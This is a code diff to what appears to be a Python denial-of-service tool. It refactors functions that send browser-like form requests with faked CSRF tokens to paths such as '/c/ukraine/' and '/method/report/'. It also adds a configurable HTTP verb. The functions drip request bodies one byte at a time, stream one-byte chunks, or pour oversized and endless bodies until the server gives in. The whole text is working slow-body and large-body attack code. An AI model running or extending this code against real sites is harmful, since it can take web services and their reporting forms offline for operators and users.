@@ -27,6 +27,8 @@ class Plan:
 
     page: str = "/c/ukraine/"
     form: str = "/method/report/"
+    # With which bodies are sent; a GET may have one too.
+    verb: str = "POST"
     # Seconds between two bytes of a slow one.
     pace: float = 1.0
     # What a slow body promises, and what a big one sends.
@@ -56,13 +58,13 @@ def head(line: Line, verb: str, path: str, *more: str) -> bytes:
     return ("\r\n".join([*lines, *more]) + "\r\n").encode()
 
 
-def post(line: Line, path: str, kind: str, *more: str) -> bytes:
+def form_head(line: Line, plan: Plan, kind: str, *more: str) -> bytes:
     """The whole head of a form that a browser could have sent."""
     return (
         head(
             line,
-            "POST",
-            path,
+            plan.verb,
+            plan.form,
             f"Content-Type: {kind}",
             f"Cookie: csrftoken={_TOKEN}",
             f"X-CSRFToken: {_TOKEN}",
@@ -74,13 +76,13 @@ def post(line: Line, path: str, kind: str, *more: str) -> bytes:
 
 async def slow_bodies(line: Line, plan: Plan) -> None:
     """Promise a body, send one byte of it, and one more each `pace` seconds."""
-    if await line.send(post(line, plan.form, _FORM, f"Content-Length: {plan.promised}") + b"t"):
+    if await line.send(form_head(line, plan, _FORM, f"Content-Length: {plan.promised}") + b"t"):
         await _drip(line, plan, (b"=" for _ in range(plan.promised - 1)))
 
 
 async def slow_chunked(line: Line, plan: Plan) -> None:
     """The same without a length: chunks of one byte."""
-    if await line.send(post(line, plan.form, _FORM, "Transfer-Encoding: chunked")):
+    if await line.send(form_head(line, plan, _FORM, "Transfer-Encoding: chunked")):
         await _drip(line, plan, (b"1\r\nt\r\n" for _ in range(plan.promised)))
 
 
@@ -108,13 +110,13 @@ async def big_post(line: Line, plan: Plan) -> None:
         "Content-Type: text/plain\r\n\r\n"
     ).encode()
     length = f"Content-Length: {plan.bytes}"
-    if await line.send(post(line, plan.form, _MULTIPART, length) + opening):
+    if await line.send(form_head(line, plan, _MULTIPART, length) + opening):
         await _pour(line, plan.bytes - len(opening))
 
 
 async def chunked_big_post(line: Line, plan: Plan) -> None:
     """A form without a length and without an end, until an answer comes."""
-    if await line.send(post(line, plan.form, _FORM, "Transfer-Encoding: chunked")):
+    if await line.send(form_head(line, plan, _FORM, "Transfer-Encoding: chunked")):
         chunk = f"{len(_PIECE):x}\r\n".encode() + _PIECE + b"\r\n"
         while not line.answered.is_set() and line.sent < plan.bytes and await line.send(chunk):
             await asyncio.sleep(0)
